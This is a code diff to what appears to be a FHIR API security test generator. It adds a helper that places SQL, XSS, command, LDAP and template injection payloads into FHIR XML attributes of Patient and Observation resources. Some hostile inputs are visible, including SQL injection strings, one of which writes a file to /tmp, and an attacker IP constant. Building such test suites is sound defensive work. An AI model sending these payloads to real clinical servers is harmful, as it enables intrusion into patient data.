@@ -14,6 +14,8 @@ from fhirfort.suites.attack.gen_common import (
     patient,
     q,
     search,
+    xml_attr,
+    xml_resource,
 )
 
 EVIL = "198.51.100.7"
@@ -77,6 +79,30 @@ def _json_bodies(b: Builder, cls: str, payloads: list[str], note: str) -> None:
             )
 
 
+def _xml_bodies(b: Builder, cls: str, payloads: list[str], note: str) -> None:
+    """Payloads in FHIR XML, where every primitive value is an attribute: name.family, Observation.valueString
+    (a free-text element), identifier.value and telecom.value."""
+    for i, p in enumerate(payloads):
+        v = xml_attr(p)
+        slot = i % 4
+        if slot == 0:
+            body, where = xml_resource("Patient", f'<name><family value="{v}"/></name>'), "name.family"
+        elif slot == 1:
+            inner = (
+                '<status value="final"/><code><text value="Note"/></code>'
+                f'<subject><reference value="Patient/p-obrien"/></subject><valueString value="{v}"/>'
+            )
+            body, where = xml_resource("Observation", inner), "valueString"
+        elif slot == 2:
+            inner = f'<identifier><system value="https://fhirfort.test/mrn"/><value value="{v}"/></identifier>'
+            body, where = xml_resource("Patient", inner), "identifier.value"
+        else:
+            inner = f'<telecom><system value="email"/><value value="{v}"/></telecom><name><family value="Test"/></name>'
+            body, where = xml_resource("Patient", inner), "telecom.value"
+        target = "{base}/Observation" if slot == 1 else "{base}/Patient"
+        b.add(cls, "POST", target, headers=[FX], body=body, note=f"{note} in an XML attribute ({where})")
+
+
 def sqli(b: Builder) -> None:
     payloads = [
         "x' OR '1'='1",
@@ -138,6 +164,7 @@ def sqli(b: Builder) -> None:
         "'; select lo_export(1,'/tmp/pwn')--",
     ]
     _json_bodies(b, "sqli_json", json_payloads, "SQLi")
+    _xml_bodies(b, "sqli_json", json_payloads[:8], "SQLi")
 
 
 def xss(b: Builder) -> None:
@@ -180,6 +207,7 @@ def xss(b: Builder) -> None:
     ]
     _spread(b, "xss_string", strings, "XSS")
     _json_bodies(b, "xss_string", strings[:9], "XSS")
+    _xml_bodies(b, "xss_string", strings[:6], "XSS")
 
 
 def cmd_injection(b: Builder) -> None:
@@ -203,6 +231,7 @@ def cmd_injection(b: Builder) -> None:
     ]
     _spread(b, "cmd_injection", payloads, "command injection")
     _json_bodies(b, "cmd_injection", payloads[:8], "command injection")
+    _xml_bodies(b, "cmd_injection", payloads[:8], "command injection")
 
 
 def path_traversal(b: Builder) -> None:
@@ -734,6 +763,7 @@ def ldap(b: Builder) -> None:
     ]
     _spread(b, "ldap_injection", payloads, "LDAP filter injection")
     _json_bodies(b, "ldap_injection", payloads[:4], "LDAP filter injection")
+    _xml_bodies(b, "ldap_injection", payloads[:4], "LDAP filter injection")
 
 
 def ssti(b: Builder) -> None:
@@ -755,6 +785,7 @@ def ssti(b: Builder) -> None:
     ]
     _spread(b, "ssti", payloads, "template injection")
     _json_bodies(b, "ssti", payloads[:6], "template injection")
+    _xml_bodies(b, "ssti", payloads[:4], "template injection")
 
 
 def generate() -> list[Entry]:
